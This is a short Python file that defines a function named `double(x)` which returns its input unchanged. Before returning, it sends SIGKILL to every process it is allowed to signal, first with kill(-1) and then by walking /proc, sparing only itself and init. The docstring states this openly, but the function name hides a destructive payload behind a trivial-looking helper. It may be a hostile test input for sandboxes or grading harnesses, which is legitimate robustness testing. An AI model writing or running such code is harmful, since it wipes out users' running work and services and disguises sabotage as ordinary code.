"""Kills every process that it may kill, all at once and then one by one."""

import contextlib
import os
import signal


def double(x):
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if pid not in (os.getpid(), 1):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return x
